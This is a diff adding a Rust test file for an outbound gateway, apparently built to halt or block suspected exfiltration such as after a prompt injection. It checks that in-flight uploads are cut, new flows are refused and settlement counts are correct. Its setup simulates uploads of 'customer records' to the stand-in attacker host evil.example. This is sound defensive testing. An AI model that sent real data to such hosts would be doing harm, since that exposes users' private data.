@@ -1,0 +1,204 @@
+//! Orders: what starts under one is refused, what is under way is cut, and the counts are right.
+
+use estoppel_link::{
+    LinkEvent,
+    frame::{Action, ActionResult, Verb},
+};
+use estoppel_model::{
+    FlowVerdict::{Allowed, Blocked, Cut},
+    IncidentId, Limit, OrderBody,
+};
+use tokio::{io::AsyncWriteExt as _, net::TcpStream};
+
+use crate::support::{
+    Answers, Harness, SESSION, Sink, client_hello, config, ending, reset, subject,
+};
+
+/// A gateway with an open upload, of which the sink has some.
+async fn uploading() -> (Harness, Sink, TcpStream) {
+    let sink = Sink::start(Answers::Nothing).await;
+    let harness = Harness::start(config(&[("evil.example:80", sink.address)]));
+    let mut client = harness.connect().await;
+    let head = "POST http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\
+                Transfer-Encoding: chunked\r\n\r\n";
+    client.write_all(head.as_bytes()).await.unwrap();
+    client.write_all(&chunk()).await.unwrap();
+    sink.received(10_000).await;
+    (harness, sink, client)
+}
+
+/// 10,000 bytes of customer records.
+fn chunk() -> Vec<u8> {
+    [b"2710\r\n".as_slice(), &[b'x'; 10_000], b"\r\n"].concat()
+}
+
+/// Writes until the connection is gone.
+async fn write_on(client: &mut TcpStream) -> std::io::Error {
+    loop {
+        if let Err(error) = client.write_all(&chunk()).await {
+            return error;
+        }
+    }
+}
+
+/// Rows K7, P5: an upload is cut in the middle; the destination's own count is the recorded one.
+#[tokio::test]
+async fn a_halt_cuts_what_is_in_flight() {
+    let (harness, sink, mut client) = uploading().await;
+    for _ in 0..20 {
+        client.write_all(&chunk()).await.unwrap();
+    }
+    let order = harness.halt(&format!("session:{SESSION}")).await;
+    write_on(&mut client).await;
+    sink.ended(1).await;
+    let settlement = harness.orders.settlement(order.id).await;
+    assert_eq!(settlement.connections_cut, 1);
+    assert_eq!(settlement.bytes_out, sink.count() as u64, "by the sink's own count");
+    assert!(settlement.last_byte_at.is_some() && settlement.not_interruptible.is_empty());
+    assert_eq!(harness.orders.verdicts(1).await, [Cut]);
+    assert_eq!(harness.sent(), sink.count() as u64);
+    assert_eq!(harness.gateway.stats().flows_open, 0);
+}
+
+/// Row K7: the client learns it at once, even when it only waits.
+#[tokio::test]
+async fn a_waiting_client_is_reset() {
+    let (harness, sink, mut client) = uploading().await;
+    harness.halt("global").await;
+    reset(&mut client).await;
+    sink.ended(1).await;
+}
+
+/// Row P5: a block cuts the flows to its destination and no other.
+#[tokio::test]
+async fn a_block_cuts_its_destination_only() {
+    let sink = Sink::start(Answers::Nothing).await;
+    let harness = Harness::start(config(&[
+        ("evil.example:443", sink.address),
+        ("good.example:443", sink.address),
+    ]));
+    let (first, second) = (client_hello("evil.example"), client_hello("good.example"));
+    let mut evil = harness.tunnel("evil.example:443").await;
+    evil.write_all(&first).await.unwrap();
+    let mut good = harness.tunnel("good.example:443").await;
+    good.write_all(&second).await.unwrap();
+    sink.received(first.len() + second.len()).await;
+    let order = harness.block(&format!("session:{SESSION}"), "evil.example").await;
+    reset(&mut evil).await;
+    assert_eq!(harness.orders.settlement(order.id).await.connections_cut, 1);
+    good.write_all(b"still open").await.unwrap();
+    sink.received(first.len() + second.len() + 10).await;
+    // And it stays closed for new ones.
+    let answer =
+        harness.exchange("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n");
+    let answer = answer.await;
+    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains(&order.id.to_string()));
+    assert_eq!(harness.orders.verdicts(2).await, [Cut, Blocked]);
+}
+
+/// Row P5: a block of an address holds for the names that lead there.
+#[tokio::test]
+async fn a_block_of_an_address_reaches_its_names() {
+    let (harness, sink, mut client) = uploading().await;
+    let order = harness.block("global", &sink.address.to_string()).await;
+    reset(&mut client).await;
+    assert_eq!(harness.orders.settlement(order.id).await.connections_cut, 1);
+    let count = sink.count();
+    assert!(harness.fetch("evil.example").await.starts_with("HTTP/1.1 403"));
+    assert_eq!((sink.connections(), sink.count()), (1, count));
+}
+
+#[tokio::test]
+async fn a_halt_of_another_session_cuts_nothing() {
+    let (harness, sink, mut client) = uploading().await;
+    let order = harness.halt("session:other").await;
+    let settlement = harness.orders.settlement(order.id).await;
+    assert_eq!((settlement.connections_cut, settlement.bytes_out), (0, 0));
+    let count = sink.count();
+    client.write_all(&chunk()).await.unwrap();
+    sink.received(count + 10_000).await;
+}
+
+/// Row P4: a halted session gets nothing through, and is told why.
+#[tokio::test]
+async fn a_halted_session_is_refused() {
+    let sink = Sink::start(Answers::Http).await;
+    let harness = Harness::start(config(&[("good.example:80", sink.address)]));
+    assert!(harness.fetch("good.example").await.starts_with("HTTP/1.1 200"));
+    let order = harness.halt(&format!("session:{SESSION}")).await;
+    let answer = harness.fetch("good.example").await;
+    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
+    let json = answer.split("\r\n\r\n").nth(1).unwrap();
+    let problem: serde_json::Value = serde_json::from_str(json).unwrap();
+    assert_eq!(problem["order"]["id"], order.id.to_string());
+    assert_eq!(problem["order"]["reason"], "suspected prompt injection");
+    assert_eq!(harness.orders.verdicts(2).await, [Allowed, Blocked]);
+    assert_eq!(sink.connections(), 1);
+}
+
+/// Invariant *stop-never-waits*: an order that is in the view holds before anybody is told of it.
+#[tokio::test]
+async fn each_write_asks_again() {
+    let (harness, sink, mut client) = uploading().await;
+    let count = sink.count();
+    let order = harness.orders.put("global", OrderBody::Halt { until: None });
+    write_on(&mut client).await;
+    sink.ended(1).await;
+    assert_eq!(sink.count(), count, "not a byte after the order");
+    // The order that is told late is settled with what it has cut early.
+    harness.orders.rows_when(|rows| !rows.is_empty()).await;
+    harness.tell(LinkEvent::Ordered(std::sync::Arc::clone(&order))).await;
+    let settlement = harness.orders.settlement(order.id).await;
+    assert_eq!((settlement.connections_cut, settlement.bytes_out), (1, count as u64));
+}
+
+/// Invariant *lease*: when no server answers, nothing more goes out.
+#[tokio::test]
+async fn a_lost_lease_cuts_and_refuses() {
+    let (harness, _sink, mut client) = uploading().await;
+    harness.orders.lose_lease();
+    harness.tell(LinkEvent::LeaseLost).await;
+    reset(&mut client).await;
+    let answer = harness.fetch("evil.example").await;
+    assert!(answer.contains("urn:estoppel:problem:lease-lost"), "{answer}");
+    assert_eq!(harness.orders.verdicts(2).await, [Cut, Blocked]);
+}
+
+/// When the orders end, so does the gateway: fail closed.
+#[tokio::test]
+async fn without_orders_nothing_is_accepted() {
+    let sink = Sink::start(Answers::Nothing).await;
+    let stopped = {
+        let (harness, _sink, mut client) = uploading().await;
+        let address = harness.gateway.local_addr();
+        drop(harness);
+        assert!(ending(&mut client).await.is_err());
+        address
+    };
+    let refused = match TcpStream::connect(stopped).await {
+        Ok(mut client) => {
+            let _ = client.write_all(b"GET http://x.example/ HTTP/1.1\r\n\r\n").await;
+            ending(&mut client).await.is_err()
+        }
+        Err(_) => true,
+    };
+    assert!(refused);
+    assert_eq!(sink.connections(), 0);
+}
+
+#[tokio::test]
+async fn a_limit_and_an_action_are_answered_truthfully() {
+    let harness = Harness::start(config(&[]));
+    let order = harness.order("global", OrderBody::Limit { limit: Limit::default() }).await;
+    let settlement = harness.orders.settlement(order.id).await;
+    assert!(settlement.not_interruptible[0].contains("does not enforce limits"));
+    let action = Action {
+        id: uuid::Uuid::now_v7(),
+        incident: IncidentId::new(),
+        subject: subject(),
+        verb: Verb::Freeze,
+    };
+    harness.tell(LinkEvent::Action(Box::new(action.clone()))).await;
+    let outcome = harness.orders.outcome().await;
+    assert_eq!((outcome.action, outcome.result), (action.id, ActionResult::NoSuchSubject));
+}
